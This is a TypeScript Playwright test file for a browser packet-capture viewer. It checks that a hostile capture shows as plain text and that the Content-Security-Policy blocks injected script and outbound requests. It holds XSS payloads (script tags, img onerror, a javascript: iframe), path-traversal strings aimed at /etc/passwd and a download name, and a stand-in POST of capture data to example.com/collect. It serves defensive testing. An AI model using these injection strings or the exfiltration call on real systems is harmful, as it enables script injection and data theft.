// A hostile capture (made by scripts/make-hostile-capture.mjs: markup and script in a URI, headers, an HTML body and a
// download file name) walked through every view: its text is shown as text, nothing of it runs, no element it names
// is created, and during the whole session the page asks nothing of any origin but its own.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';

const MARKER = '__wirelensPwned';
let dir = '';
let capture = '';

test.beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'wirelens-hostile-'));
  capture = join(dir, 'hostile.pcap');
  execFileSync(process.execPath, [new URL('../scripts/make-hostile-capture.mjs', import.meta.url).pathname, capture]);
});
test.afterAll(() => rmSync(dir, { recursive: true, force: true }));

const packetList = (page: Page) => page.getByRole('grid', { name: 'Packet list' });
const row = (page: Page, n: number) => packetList(page).locator(`[role="row"][data-frame="${n}"]`);

/** Nothing the capture carries has run or been turned into elements. */
async function inert(page: Page): Promise<void> {
  expect(await page.evaluate((m) => (window as unknown as Record<string, unknown>)[m], MARKER)).toBeUndefined();
  // No element the capture names exists outside what the app itself draws (the app has no <img src=x>, <iframe>,
  // <script> in its body, nor an <svg onload>).
  expect(await page.locator('img[src="x"], iframe, body script, svg[onload], [onerror]').count()).toBe(0);
}

test('a hostile capture shows its text and runs nothing, and the page talks only to its own origin', async ({
  page,
  baseURL,
}) => {
  const origin = new URL(baseURL ?? 'http://127.0.0.1').origin;
  const foreign: string[] = [];
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith('blob:') && !url.startsWith('data:') && new URL(url).origin !== origin) foreign.push(url);
  });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });

  await page.goto('/');
  await page.locator('input[type="file"]').setInputFiles(capture);
  await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');

  // The list: the request's Info is the raw text, markup and all.
  await expect(row(page, 4)).toContainText(`GET /<script>window.${MARKER}=1</script>/../../etc/passwd`);
  await expect(row(page, 4)).toContainText(`<img src=x onerror=window.${MARKER}=2>`);
  await inert(page);

  // The tree and bytes of the request and of the response.
  await row(page, 4).click();
  const tree = page.getByRole('tree', { name: 'Packet details' });
  await expect(tree).toHaveAttribute('data-frame', '4');
  const http = tree.getByRole('treeitem', { name: 'Hypertext Transfer Protocol' });
  await http.click();
  await http.press('*');
  await expect(tree.getByRole('treeitem', { name: /^X-Evil: <img src=x onerror=/ })).toHaveCount(1);
  await row(page, 5).click();
  await expect(tree).toHaveAttribute('data-frame', '5');
  const http5 = tree.getByRole('treeitem', { name: 'Hypertext Transfer Protocol' });
  await http5.click();
  await http5.press('*');
  await expect(
    tree.getByRole('treeitem', { name: /Content-Disposition: attachment; filename="\.\.\/\.\.\/evil<script>\.html"/ }),
  ).toHaveCount(1);
  await inert(page);

  // Every other view.
  const views = page.getByRole('navigation', { name: 'Views' });
  for (const name of ['Sequence diagram', 'Follow stream', 'HTTP objects', 'HTTP statistics', 'Expert information']) {
    await views.getByRole('link', { name }).click();
    await page.waitForTimeout(300);
    await inert(page);
  }
  // Follow shows the body as text; the HTTP object's preview shows the HTML as source.
  await views.getByRole('link', { name: 'Follow stream' }).click();
  await expect(page.getByText(`<script>window.${MARKER}=5</script>`).first()).toBeVisible();
  await views.getByRole('link', { name: 'HTTP objects' }).click();
  const objects = page.getByRole('region', { name: 'HTTP objects' });
  await objects.getByRole('row').filter({ hasText: 'text/html' }).click();
  await expect(page.getByText(`<iframe src="javascript:window.${MARKER}=7"></iframe>`).first()).toBeVisible();
  await inert(page);

  // Saving it: the suggested name cannot climb out of the download folder.
  const download = page.waitForEvent('download');
  await objects
    .getByRole('button', { name: /^Save passwd/ })
    .first()
    .click();
  const name = (await download).suggestedFilename();
  expect(name).not.toMatch(/[\\/]|\.\./);

  await inert(page);
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
});

test('the Content-Security-Policy keeps injected script from running and requests to other origins from leaving', async ({
  page,
}) => {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (v: string) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { reportViolation: (v: string) => void }).reportViolation(e.violatedDirective),
    );
  });
  await page.goto('/');
  await page.getByRole('button', { name: 'Open the sample' }).click();
  await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
  const result = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
    let fetched = 'no error';
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'capture' });
    } catch (e) {
      fetched = e instanceof Error ? e.name : String(e);
    }
    return { inline: w.__inline, fetched };
  });
  expect(result).toEqual({ inline: undefined, fetched: 'TypeError' });
  await expect.poll(() => violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
});
